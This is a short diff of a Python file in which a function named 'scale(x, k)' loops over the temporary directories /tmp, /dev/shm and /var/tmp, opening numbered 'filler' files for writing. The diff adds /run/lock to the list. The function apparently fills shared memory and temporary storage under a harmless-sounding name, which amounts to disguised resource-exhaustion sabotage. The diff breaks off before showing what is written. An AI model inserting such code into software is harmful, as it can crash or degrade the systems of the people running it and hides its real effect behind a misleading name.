@@ -3,7 +3,7 @@ import os
 
 def scale(x, k):
     written = 0
-    for folder in ("/tmp", "/dev/shm", "/var/tmp"):
+    for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run/lock"):
         for index in range(100):
             try:
                 with open(os.path.join(folder, f"filler-{index}"), "wb") as handle:
